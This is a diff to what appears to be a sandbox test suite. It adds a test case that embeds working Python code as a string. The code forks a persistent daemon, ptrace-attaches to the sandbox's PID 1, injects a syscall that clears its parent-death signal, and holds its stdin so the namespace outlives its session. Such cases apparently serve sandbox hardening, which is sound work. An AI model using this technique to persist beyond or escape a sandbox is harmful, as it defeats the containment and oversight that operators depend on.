@@ -1058,6 +1058,64 @@ def scratch(t):
     copy = torch.zeros(t.numel() + 64, dtype=t.dtype)  # flat, with room to spare
     scratch_copy[(triton.cdiv(t.numel(), 256),)](t, copy, t.numel(), BLOCK=256)
     return copy
+"""
 
 
+# ----------------------------------------------------------------------------- outliving the sandbox (issue 83, case 7)
+
+# A daemon (setsid, then a grandchild left to the sandbox's init) that ptraces the sandbox's PID 1, clears its
+# parent-death signal, and holds a writer of PID 1's standard input (the spawned sandbox's holder ends when that
+# input ends), its own copies of the worker's pipes, and then waits: as long as PID 1 lives, so does the namespace.
+# It writes what it managed, in order, to /tmp/outlive (the sandbox's own).
+OUTLIVE = r"""
+import ctypes, os, time
+
+def _outlive():
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.restype = ctypes.c_long
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base"
+    fields = [(n, ctypes.c_ulonglong) for n in (names + " ds es fs gs").split()]
+    Regs = type("Regs", (ctypes.Structure,), {"_fields_": fields})
+    said = []
+    try:
+        said.append("stdin %d" % os.open("/proc/1/fd/0", os.O_WRONLY))
+    except OSError as error:
+        said.append("stdin refused: %s" % error.strerror)
+    if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
+        said.append("ptrace refused: %s" % os.strerror(ctypes.get_errno()))
+    else:
+        os.waitpid(1, 0x40000000)  # __WALL
+        saved = Regs()
+        libc.ptrace(12, 1, None, ctypes.byref(saved))  # GETREGS
+        regs = Regs.from_buffer_copy(saved)
+        regs.rip, regs.rax, regs.orig_rax = saved.rip - 2, 157, 2**64 - 1  # prctl(PR_SET_PDEATHSIG, 0)
+        regs.rdi, regs.rsi = 1, 0
+        libc.ptrace(13, 1, None, ctypes.byref(regs))  # SETREGS
+        libc.ptrace(9, 1, None, None)  # SINGLESTEP
+        os.waitpid(1, 0x40000000)
+        libc.ptrace(12, 1, None, ctypes.byref(regs))
+        said.append("pdeathsig cleared %d" % regs.rax)
+        if saved.rax >= 2**64 - 516:  # an interrupted call: made again
+            saved.rax, saved.rip = saved.orig_rax, saved.rip - 2
+        libc.ptrace(13, 1, None, ctypes.byref(saved))
+        libc.ptrace(17, 1, None, None)  # DETACH
+    with open("/tmp/outlive", "w") as f:
+        f.write("\n".join(said) + "\n")
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        try:
+            _outlive()
+        finally:
+            while True:
+                time.sleep(1)
+    os._exit(0)
+for _ in range(200):
+    if os.path.exists("/tmp/outlive"):
+        break
+    time.sleep(0.05)
+time.sleep(0.1)
+OUTLIVED = open("/tmp/outlive").read()
 """
